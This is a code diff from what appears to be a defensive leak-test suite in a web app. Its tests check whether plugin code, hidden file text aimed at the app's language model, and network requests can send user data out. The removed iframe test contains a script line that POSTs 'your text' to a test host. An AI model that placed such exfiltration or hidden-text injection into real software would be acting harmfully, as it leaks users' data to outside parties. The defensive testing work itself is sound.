@@ -3,6 +3,7 @@ import type { Api } from "../../app/api.ts";
 import { AnswerText } from "../chat/answer-text.tsx";
 import { hiddenTextHtml, hiddenTextPdf, INJECTION, SEEN } from "./hidden-text-files.ts";
 import { byPolicy, withElement, type Outcome, type Target } from "./leaks.ts";
+import { tryToLeak } from "../../sandbox/try-to-leak.ts";
 import { readAndForget } from "./read-and-forget.ts";
 
 export interface Attempt {
@@ -53,8 +54,8 @@ export const ATTEMPTS: readonly Attempt[] = [
   {
     id: "plugin",
     title: "A plugin that asks for an address",
-    what: "Foreign code in a sandboxed frame of this page tries to send something.",
-    run: codeInFrame,
+    what: "The code of a plugin, run as all plugins are, tries to send something.",
+    run: codeOfPlugin,
   },
   {
     id: "fetch",
@@ -150,33 +151,16 @@ async function hiddenWords(api: Api, file: File): Promise<Outcome> {
     : { stopped: true, how: "What nobody sees was left out when the file was read. No language model is given it." };
 }
 
-function frame(attributes: Readonly<Record<string, string>>): HTMLIFrameElement {
-  const made = document.createElement("iframe");
-  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
-  return made;
-}
-
-/** Milliseconds that code in a frame has to show that it runs. */
-const FRAME_PATIENCE = 1_500;
-
-async function codeInFrame({ host }: Target): Promise<Outcome> {
-  const code = `fetch("https://${host}/plugin", { method: "POST", body: "your text" }).finally(() => parent.postMessage("${host}", "*"))`;
-  const made = frame({ sandbox: "allow-scripts", srcdoc: `<p>A plugin</p><script>${code}</script>` });
-  let ran = false;
-  const hear = ({ data }: MessageEvent<unknown>) => (ran ||= data === host);
-  addEventListener("message", hear);
-  try {
-    const loaded = new Promise((resolve) => made.addEventListener("load", resolve, { once: true }));
-    await withElement(made, async () => {
-      await loaded;
-      await new Promise((resolve) => setTimeout(resolve, FRAME_PATIENCE));
-    });
-  } finally {
-    removeEventListener("message", hear);
-  }
-  return ran
-    ? { stopped: false, how: "The foreign code ran and could try to send." }
-    : { stopped: true, how: "The code did not even run: only this program's own scripts may." };
+async function codeOfPlugin({ host }: Target): Promise<Outcome> {
+  const place = document.createElement("div");
+  const { ran, out, directive } = await withElement(place, () => tryToLeak(place, host));
+  if (!ran) return { stopped: true, how: "The plugin's frame did not come up, so its code did not even run." };
+  if (out.length > 0) return { stopped: false, how: `The plugin ran and had ${out.join(", ")}.` };
+  const policy = directive ? ` (${directive})` : "";
+  return {
+    stopped: true,
+    how: `The plugin ran, without a document or an origin. The policy of its frame${policy} allows it no host at all.`,
+  };
 }
 
 async function requestByWorker(target: Target): Promise<Outcome> {
